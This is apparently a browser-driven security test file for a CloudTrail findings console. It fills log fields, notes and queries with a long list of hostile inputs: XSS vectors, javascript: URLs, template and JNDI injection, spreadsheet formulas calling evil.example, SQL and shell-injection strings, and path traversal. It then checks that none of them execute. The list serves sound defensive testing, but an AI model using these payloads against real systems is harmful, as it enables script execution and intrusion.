// What stands in logs is data: hostile text in every field of events and in notes, looked at on every page, does nothing.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { after, before, test } from "node:test";
import ts from "typescript";
import { mistakes, openBrowser, openPage, settled, shot } from "./browser.mjs";
import { startServer } from "./server.mjs";

const RUN = "window.pwned=1";
const OUT = "//evil.example/x";

/** Ways to run something or to break out of where a text is put. */
const PAYLOADS = [
  // Elements.
  ...["script", "SCRIPT", "scr\u0000ipt", "script/x"].flatMap((tag) => [`<${tag}>${RUN}</${tag}>`, `"><${tag}>${RUN}</${tag}>`, `</title><${tag} src=${OUT}></${tag}>`]),
  ...["img src=x onerror", "img/src=x/onerror", "IMG SRC=x OnErRoR", "svg onload", "svg/onload", "body onload", "video src=x onerror", "audio src=x onerror", "details open ontoggle", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "marquee onstart", "iframe onload", "object data=x onerror", "embed src=x onload", "style onload", "link rel=stylesheet href=x onerror", "x onclick", "div onmouseover", "a onpointerenter", "form onsubmit", "isindex onfocus", "keygen autofocus onfocus", "math onclick", "table background=x onload"].flatMap((tag) => [`<${tag}=${RUN}>`, `'"><${tag}="${RUN}">`]),
  `<iframe src="javascript:${RUN}">`, `<iframe srcdoc="<script>parent.pwned=1</script>">`, `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`, `<base href="${OUT}">`, `<meta http-equiv=refresh content="0;url=${OUT}">`, `<link rel=stylesheet href="${OUT}">`, `<style>@import '${OUT}';*{display:none}</style>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>#x">`, `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`, `<form action="javascript:${RUN}"><button>x</button></form>`, `<a href="javascript:${RUN}">x</a>`, `<!--><img src=x onerror=${RUN}>-->`, `<![CDATA[><script>${RUN}</script>]]>`, `<xss id=x tabindex=1 onfocus=${RUN}></xss>`, `<img src="${OUT}">`, `<input type=image src="${OUT}">`, `<video poster="${OUT}">`, `<button popovertarget=x onclick=${RUN}>x`,
  // Out of attributes, text and scripts.
  ...['"', "'", "`", "\\\"", "&quot;", "&#34;", "\u2019", "\uff02"].flatMap((quote) => [`${quote} onmouseover=${RUN} x=${quote}`, `${quote}-${RUN}-${quote}`, `${quote});${RUN};//`]),
  `</script><script>${RUN}</script>`, `</textarea><img src=x onerror=${RUN}>`, `</style><script>${RUN}</script>`, `</pre><svg onload=${RUN}>`, `*/${RUN}/*`, `\u2028${RUN}\u2029`, `-->${RUN}<!--`, `]]>${RUN}`,
  // Addresses.
  ...["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:", "javascript&colon;", "&#106;avascript:", "javascript:%0a", "vbscript:", "data:text/html,", "view-source:javascript:", "blob:", "file:///"].map((scheme) => `${scheme}${RUN}`),
  `javascript://%0a${RUN}`, "https://evil.example/", OUT, "\\\\evil.example\\share", "/\\evil.example", "https:evil.example", "http://127.0.0.1@evil.example/", "/findings/../../evil", "?kind=ip&value=x#", "%2e%2e%2f%2e%2e%2f", "../../../../etc/passwd",
  // Templates and prototypes.
  ...["{{constructor.constructor('X')()}}", "${X}", "#{X}", "<%= X %>", "{% X %}", "[[X]]", "{{X}}", "${{X}}", "@{X}", "~{X}", "*{X}", "{{$on.constructor('X')()}}", "{{_self.env.display('X')}}", "${T(java.lang.Runtime).getRuntime().exec('X')}", "${jndi:ldap://evil.example/a}", "%{X}", "!{X}"].map((form) => form.replaceAll("X", RUN)),
  "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", '{"__proto__":{"pwned":1}}', "then", "$$typeof", '{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}', "dangerouslySetInnerHTML",
  // Signs that hide, turn, or end.
  "admin\u202egnp.exe", "\u202eevil\u202c", "\u2066x\u2069", "\u200eleft", "\u200bzero\u200bwidth", "\u2060joiner", "\ufeffmark", "a\u0000b", "\u0000", "\u0007bell", "\u0008\u0008\u0008back", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u001b[2J\u001b[H", "\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007", "\u009b31m", "line\r\nbreak", "a\tb", "\u0085next", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324", "\ud83d\udc69\u200d\ud83d\udcbb", "\u0430dmin", "\ufdfd\ufdfd\ufdfd", "\u0e49\u0e49\u0e49\u0e49", "\udbff\udfff", "ﷺ", "İıſK",
  // Spreadsheets.
  `=cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", `=HYPERLINK("https://evil.example","x")`, `=IMPORTXML("https://evil.example","//a")`, "\t=1+1", "\r=1+1", `"=1+1"`, "%0A=1+1",
  // Queries.
  "' OR '1'='1", "'; DROP TABLE hits; --", "\" or 1=1 #", "x' UNION SELECT * FROM hits --", "\\", "\\\\", "\\'", "\\\"", "'", "\"", "''", "\"\"", "`", "``", "| limit 1", "x\" | limit 0 | fields \"", "/* x */", "-- x", "# x", "$1", "?", ":x", "%", "_", "*", "%s%s%n", "{0}", "(", ")", "[", "]", "a/b", "/.*/", "^(a+)+$", "null", "NaN", "undefined", "true", "0", "-1", "1e309", "\\u0041", "\\n", "\\x41", "${IFS}", "$(id)", "`id`", "; id", "| id", "&& id",
  // JSON and markup.
  '"}],"x":[{"', "\\\"}", "{", "}", "[]", "{}", "],", "\\u0022", "[x](javascript:window.pwned=1)", `![x](${OUT})`, "# heading", "***", "```js\nwindow.pwned=1\n```", "| a | b |", "- [x] done", "<https://evil.example>", "&lt;script&gt;", "&#x3c;script&#x3e;", "%3Cscript%3E", "\\x3cscript\\x3e", "\uff1cscript\uff1e", "+ADw-script+AD4-",
  // Long.
  "A".repeat(2000), "<b>".repeat(300), "\u202e".repeat(300), "((((".repeat(200), "wide ".repeat(400), "\u0301".repeat(500), "/".repeat(1500), `${"<div>".repeat(100)}<img src=x onerror=${RUN}>`,
];
const HUGE = `<img src=x onerror=${RUN}>`.repeat(4000);

let server;
let browser;
let uids;
let state;

const stop = { eventSource: "cloudtrail.amazonaws.com", eventName: "StopLogging" };
const key = { eventSource: "iam.amazonaws.com", eventName: "CreateAccessKey" };
/** Over all records each field holds each payload once. */
function record(at) {
  const n = PAYLOADS.length;
  const p = (field) => PAYLOADS[(at + field * 17) % n];
  // A rule about attackers' tools fires whatever was called, so that all can be hostile.
  const base = at % 3 === 0 ? stop : at % 3 === 1 ? key : { eventSource: p(1), eventName: p(2) };
  const isFree = at % 3 === 2;
  return {
    eventVersion: "1.08",
    userIdentity: {
      type: "IAMUser", principalId: p(3), arn: `arn:aws:iam::111122223333:user/${p(0)}`, accountId: at % 9 === 8 ? p(4) : "111122223333", accessKeyId: p(5), userName: p(0),
      ...(at % 2 ? { sessionContext: { sessionIssuer: { type: "Role", arn: `arn:aws:iam::111122223333:role/${p(6)}`, userName: p(6) } } } : {}),
    },
    eventTime: new Date(Date.now() - 3_600_000 - at * 1000).toISOString().replace(/\.\d+Z/, "Z"),
    ...base,
    awsRegion: isFree ? p(7) : "eu-west-1", sourceIPAddress: p(8), userAgent: isFree ? `kali ${p(9)}` : p(9),
    ...(isFree ? { errorCode: p(10), errorMessage: p(11) } : {}),
    requestParameters: { name: p(12), userName: p(13), [p(14)]: p(15), list: [p(16), { [p(17)]: p(18) }] },
    responseElements: isFree ? null : { accessKey: { accessKeyId: p(19), userName: p(20), status: p(21) } },
    requestID: p(22), eventID: crypto.randomUUID(), readOnly: false, eventType: isFree ? p(23) : "AwsApiCall", managementEvent: true,
    recipientAccountId: "111122223333", eventCategory: "Management", resources: [{ ARN: p(24), accountId: p(25), type: p(26) }], additionalEventData: { [p(27)]: p(28) },
  };
}

async function waitFor(what, check) {
  for (let tries = 0; tries < 150; tries += 1) {
    const value = await check();
    if (value) return value;
    await new Promise((later) => setTimeout(later, 200));
  }
  assert.fail(`never came: ${what}`);
}

before(async () => {
  assert.ok(new Set(PAYLOADS).size >= 200, `${new Set(PAYLOADS).size} payloads`);
  [server, browser] = await Promise.all([startServer({ command: "serve" }), openBrowser()]);
  const records = PAYLOADS.map((_, at) => record(at));
  // One that has them all, and one that is huge.
  records.push({ ...record(0), eventID: crypto.randomUUID(), requestParameters: Object.fromEntries(PAYLOADS.map((text, at) => [`${text}${at}`, text])) });
  records.push({ ...record(1), eventID: crypto.randomUUID(), userIdentity: { type: "IAMUser", arn: "arn:aws:iam::111122223333:user/huge", accountId: "111122223333", userName: "huge" }, requestParameters: { userName: HUGE } });
  await server.call("/api/v1/ingest", { method: "POST", body: JSON.stringify({ Records: records }) });
  // As the cookie is, the page is logged in.
  const [name, value] = server.session.cookie.split("=");
  state = { cookies: [{ name, value, url: server.base.replace("http:", "https:"), secure: true }] };
  uids = await waitFor("findings of most records", async () => {
    const all = [];
    for (let next = ""; next !== undefined; ) {
      const page = await server.call(`/api/v1/findings?limit=200${next ? `&cursor=${encodeURIComponent(next)}` : ""}`);
      all.push(...page.findings);
      next = page.next ?? undefined;
    }
    return all.length >= PAYLOADS.length * 0.8 && all.map((one) => one.uid);
  });
  for (let at = 0; at < PAYLOADS.length; at += 12) {
    await server.call(`/api/v1/findings/${uids[0]}/notes`, { method: "POST", body: { text: PAYLOADS.slice(at, at + 12).join("\n").slice(0, 9_000) } });
  }
  const year = new Date(Date.now() + 86_400_000).toISOString();
  for (const text of [`<img src=x onerror=${RUN}>`, "\u202eevil"]) await server.call("/api/v1/suppressions", { method: "POST", body: { dimensions: { principal: text }, reason: text, until: year } });
});
after(async () => {
  await browser?.close();
  await server?.stop();
});

async function open(path) {
  const page = await openPage(browser);
  await page.context().addCookies(state.cookies);
  page.outside = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(server.base) && !/^(data|blob):/.test(request.url())) page.outside.push(request.url().slice(0, 200));
  });
  await page.goto(`${server.base}${path}`);
  await settled(page);
  return page;
}
/** To another page of the console without loading it anew. */
async function go(page, path) {
  await page.evaluate((to) => {
    history.pushState(null, "", to);
  }, path);
  await settled(page);
}

async function harmless(page, where) {
  const found = await page.evaluate(() => {
    const bad = [];
    if (window.pwned !== undefined || {}.pwned !== undefined) bad.push("it ran");
    for (const one of document.querySelectorAll("*")) {
      for (const attribute of one.attributes) {
        if (/^on/i.test(attribute.name)) bad.push(`${one.tagName} has ${attribute.name}`);
        if (/^(href|src|action|data|formaction|poster|xlink:href)$/i.test(attribute.name) && /^\s*(javascript|vbscript|data:text|https?:|\/\/|\\)/i.test(attribute.value) && !attribute.value.startsWith(location.origin)) bad.push(`${one.tagName} leads to ${attribute.value.slice(0, 80)}`);
      }
      if (/^(iframe|object|embed|base|marquee|xss|template)$/i.test(one.tagName)) bad.push(`an element ${one.tagName}`);
      if (/^script$/i.test(one.tagName) && !new URL(one.src || "about:blank", location.href).pathname.startsWith("/assets/")) bad.push("a script");
    }
    const turned = document.body.innerText.match(/[\u202a-\u202e\u2066-\u2069]/);
    if (turned) bad.push(`a sign that turns text is not made visible, near: ${document.body.innerText.slice(Math.max(0, turned.index - 60), turned.index + 20)}`);
    if (/\p{M}{10}/u.test(document.body.innerText)) bad.push("marks heap up over other lines");
    return bad.slice(0, 5);
  });
  assert.deepEqual(found, [], where);
  assert.deepEqual(await mistakes(page), [], where);
  assert.deepEqual(page.outside, [], where);
}

test("every page of the console", async () => {
  const source = await readFile(new URL("../src/pages/index.ts", import.meta.url), "utf8");
  const paths = [...source.matchAll(/\bpage\("([^"]+)"/g)].map((match) => match[1]).filter((path) => !path.includes(":"));
  assert.ok(paths.length >= 9, paths.join(" "));
  const { findings } = await server.call("/api/v1/findings?limit=1");
  paths.push(`/detections/${findings[0].rule}`, "/findings?view=suppressions", "/findings?group=principal&status=all", `/findings?text=${encodeURIComponent(PAYLOADS[0])}`);
  const page = await open("/");
  for (const path of paths) {
    await go(page, path);
    await harmless(page, path);
  }
});

test("the queue, all of it", async () => {
  const page = await open("/findings?status=all");
  const grid = page.getByRole("grid", { name: "Findings" });
  await grid.focus();
  for (let steps = 0; steps < 60; steps += 1) {
    await page.keyboard.press("PageDown");
    if (steps % 10 === 0) await harmless(page, `queue, step ${steps}`);
    if ((await grid.locator('[role="row"][aria-selected="true"]').getAttribute("aria-rowindex").catch(() => "")) === String(uids.length + 1)) break;
  }
  await harmless(page, "the end of the queue");
  await page.keyboard.press("p");
  await page.getByText("Account and Region").waitFor();
  await page.keyboard.press("x");
  await page.keyboard.press("s");
  await page.getByRole("dialog").getByText(/Hides/).waitFor();
  await harmless(page, "suppressing");
  await shot(page, "payloads-queue");
});

test("pages of findings, all their tabs, with notes", async () => {
  const page = await open(`/findings/${uids[0]}`);
  await page.locator(".talk").getByText("window.pwned=1").first().waitFor();
  const some = [0, 1, 2, ...Array.from({ length: 9 }, (_, at) => Math.floor(((at + 1) * uids.length) / 10))].map((at) => uids[at]);
  for (const uid of new Set(some)) {
    await go(page, `/findings/${uid}`);
    await page.getByRole("heading", { level: 1 }).waitFor();
    await harmless(page, `/findings/${uid}`);
    for (const tab of uid === uids[0] || uid === some.at(-1) ? ["path", "graph", "rule", "raw", "ocsf"] : ["graph"]) {
      await go(page, `/findings/${uid}?tab=${tab}`);
      await harmless(page, `/findings/${uid}?tab=${tab}`);
    }
  }
  const { findings } = await server.call("/api/v1/findings?principal=huge");
  await go(page, `/findings/${findings[0].uid}?tab=raw`);
  await page.getByText("onerror").first().waitFor();
  await harmless(page, "the huge one");
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth + 1), "nothing bursts the page");
  await shot(page, "payloads-finding", { full: false });
});

test("entities and queries named like this", async () => {
  const page = await open("/investigate");
  const kinds = ["principal", "session", "key", "ip", "resource", "account"];
  for (let at = 0; at < PAYLOADS.length; at += 9) {
    const value = PAYLOADS[at].slice(0, 1500);
    const path = `/investigate?${new URLSearchParams({ kind: kinds[(at / 9) % kinds.length], value })}`;
    await go(page, path);
    await harmless(page, path);
  }
  for (let at = 4; at < PAYLOADS.length; at += 24) {
    await go(page, `/query?${new URLSearchParams({ q: PAYLOADS[at].slice(0, 1500) })}`);
    await harmless(page, `query ${at}`);
  }
});

test("quoted text is found again, in both languages, and is never a mistake", async () => {
  const source = await readFile(new URL("../src/api/query.ts", import.meta.url), "utf8");
  const code = ts.transpile(source.match(/function quoted[\s\S]*?\n\}/)[0], { target: ts.ScriptTarget.ES2022 });
  const quoted = new Function(`${code}; return quoted;`)();
  const ask = async (text, lang) => {
    const job = await server.call("/api/v1/queries?wait_s=20", { method: "POST", body: { text, lang } });
    assert.equal(job.error ?? null, null, `${lang}: ${text.slice(0, 300)}`);
    const response = await fetch(`${server.base}/api/v1/queries/${job.id}/rows`, { headers: { cookie: server.session.cookie, accept: "application/x-ndjson" } });
    return JSON.parse((await response.text()).split("\n")[0]);
  };
  const names = [...new Set(PAYLOADS)].filter((text) => text.length < 2000);
  for (let at = 0; at < names.length; at += 25) {
    const some = names.slice(at, at + 25);
    for (const lang of ["ql", "sql"]) {
      // SQL is refused where brackets nest more than 50 deep, and counts those in strings, too.
      const fine = lang === "ql" ? some : some.filter((text) => (text.match(/[([]/g) ?? []).length <= 40);
      const list = fine.map((text) => quoted(text, lang)).join(", ");
      const text = lang === "ql" ? `filter userIdentity.userName in [${list}] | stats count_distinct(userIdentity.userName) as n` : `SELECT count(DISTINCT user_name) AS n FROM (SELECT actor_user_name AS user_name FROM cloudtrail) WHERE user_name IN (${list})`;
      const { n } = await ask(text, lang);
      assert.equal(Number(n), fine.length, `${lang} finds ${n} of ${fine.length}: ${JSON.stringify(fine)}`);
    }
  }
});
